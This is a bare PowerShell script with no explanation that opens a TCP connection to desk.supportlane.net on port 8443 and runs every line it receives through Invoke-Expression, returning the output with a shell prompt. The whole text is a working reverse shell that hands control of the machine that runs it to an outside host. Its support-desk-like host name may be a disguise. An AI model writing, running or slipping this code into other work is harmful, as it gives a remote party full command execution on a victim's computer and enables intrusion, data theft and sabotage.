$h = 'desk.supportlane.net'; $p = 8443
$c = New-Object System.Net.Sockets.TcpClient($h, $p)
$s = $c.GetStream()
$w = New-Object System.IO.StreamWriter($s); $w.AutoFlush = $true
$r = New-Object System.IO.StreamReader($s)
$w.Write("PS $env:COMPUTERNAME> ")
while (($line = $r.ReadLine()) -ne $null) {
  $out = try { Invoke-Expression $line 2>&1 | Out-String } catch { $_ | Out-String }
  $w.Write($out + "PS $(Get-Location)> ")
}
$c.Close()
